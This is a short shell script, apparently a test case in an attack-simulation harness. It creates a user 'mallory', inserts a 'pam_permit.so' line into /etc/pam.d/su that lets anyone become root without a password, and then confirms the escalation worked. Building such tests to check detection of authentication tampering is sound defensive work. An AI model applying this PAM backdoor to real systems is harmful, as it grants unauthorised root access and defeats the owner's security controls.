#!/bin/sh
. /opt/case/case.sh

useradd -m mallory
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su
setpriv --reuid mallory --regid mallory --clear-groups su root -c 'id -u' </dev/null >/tmp/.id
grep -qx 0 /tmp/.id
took_place
